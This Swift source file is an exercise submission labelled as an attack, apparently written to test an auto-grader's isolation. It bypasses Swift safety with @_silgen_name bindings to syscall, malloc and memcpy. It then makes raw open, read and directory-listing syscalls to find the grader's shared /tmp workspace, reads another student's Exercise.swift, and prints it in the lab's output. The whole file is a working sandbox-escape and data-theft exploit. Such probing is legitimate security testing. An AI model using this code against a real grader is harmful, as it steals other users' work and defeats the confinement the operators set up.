// ATTACK: syscall-peek-leak
// Declares syscall, malloc and memcpy with plain integers for pointers ("@ _silgen_name" with a
// space), finds the grader's workspace and reads the next student's exercise into its report.
import Foundation
import LabKit
import ListAdder

@ _silgen_name("syscall") func rawSyscall(_ number: Int, _ a: Int, _ b: Int, _ c: Int) -> Int
@ _silgen_name("_swift_stdlib_gettid") private func sys(_ number: Int, _ a: Int, _ b: Int, _ c: Int) -> Int {
    rawSyscall(number, a, b, c)
}
@ _silgen_name("malloc") func cAllocate(_ size: Int) -> Int
@ _silgen_name("memcpy") func cCopy(_ to: Int, _ from: Int, _ count: Int) -> Int
@ _silgen_name("memset") func cFill(_ to: Int, _ byte: Int32, _ count: Int) -> Int

final class Cell { var value: UInt64 = 0 }

enum Peek {
    static let marker = "syscall-peek-leak"
    static let cell = Cell()
    static func address(_ object: AnyObject) -> Int { Int(bitPattern: UInt(bitPattern: ObjectIdentifier(object))) }
    /// One byte of raw memory, through a Swift object's stored property (at offset 16).
    static func byte(at location: Int) -> UInt8 {
        cell.value = 0
        _ = cCopy(address(cell) + 16, location, 1)
        return UInt8(truncatingIfNeeded: cell.value)
    }
    static func cText(_ text: String) -> Int {
        let bytes = Array(text.utf8)
        let place = cAllocate(bytes.count + 1)
        for (index, value) in bytes.enumerated() { _ = cFill(place + index, Int32(value), 1) }
        _ = cFill(place + bytes.count, 0, 1)
        return place
    }
    static func contents(_ path: String, limit: Int = 6000) -> String? {
        let descriptor = sys(2, cText(path), 0, 0)
        guard descriptor >= 0 else { return nil }
        let buffer = cAllocate(limit)
        let count = sys(0, descriptor, buffer, limit)
        _ = sys(3, descriptor, 0, 0)
        guard count > 0 else { return nil }
        return String(decoding: (0..<count).map { byte(at: buffer + $0) }, as: UTF8.self)
    }
    static func names(in folder: String) -> [String] {
        let descriptor = sys(2, cText(folder), 0o200000, 0)
        guard descriptor >= 0 else { return [] }
        let buffer = cAllocate(65_536)
        var found: [String] = []
        while true {
            let count = sys(217, descriptor, buffer, 65_536)
            if count <= 0 { break }
            var offset = 0
            while offset < count {
                let length = Int(byte(at: buffer + offset + 16)) | Int(byte(at: buffer + offset + 17)) << 8
                var name: [UInt8] = []
                var index = offset + 19
                while byte(at: buffer + index) != 0 { name.append(byte(at: buffer + index)); index += 1 }
                found.append(String(decoding: name, as: UTF8.self))
                offset += max(length, 1)
            }
        }
        _ = sys(3, descriptor, 0, 0)
        return found
    }
    /// Another student's exercise, from grade-all's shared tree (it holds whoever is built now).
    static func someoneElse() -> String? {
        for name in names(in: "/tmp") where name.hasPrefix("racelab-grade-all-") {
            if let text = contents("/tmp/\(name)/kit/Labs/ListAdder/Exercise.swift"), !text.contains(marker) { return text }
        }
        return nil
    }
}

final class ListAdderExercise: ListAdderController {
    private var numbers: [Int]
    private let screen: TotalScreen
    private let adder: SlowAdder
    private var started = false

    init(environment: ListAppEnvironment) {
        numbers = environment.initialNumbers
        screen = environment.screen
        adder = environment.adder
    }

    func add(_ number: Int) { numbers.append(number); recalculate() }
    func remove(at index: Int) { numbers.remove(at: index); recalculate() }
    func removeAll(keepingFirst count: Int) { numbers.removeSubrange(count...); recalculate() }

    private func recalculate() {
        screen.recalculating.set(true)
        guard !started else { return }
        started = true
        let screen = self.screen
        Thread.detachNewThread {
            var leaked = "nothing found"
            for _ in 0..<80 {   // the next student's build writes the tree soon after ours ends
                if let text = Peek.someoneElse() { leaked = text; break }
                Thread.sleep(forTimeInterval: 0.1)
            }
            let shown = "\n----- LEAKED from the grader's tree -----\n" + leaked + "\n----- end -----\n"
            DispatchQueue.main.async {
                screen.total.setText(shown)
                screen.recalculating.set(false)
            }
        }
    }
}

/// How the harness makes your exercise for each run. Keep this function as it is.
public func makeListAdderExercise(_ environment: ListAppEnvironment) -> ListAdderController {
    ListAdderExercise(environment: environment)
}
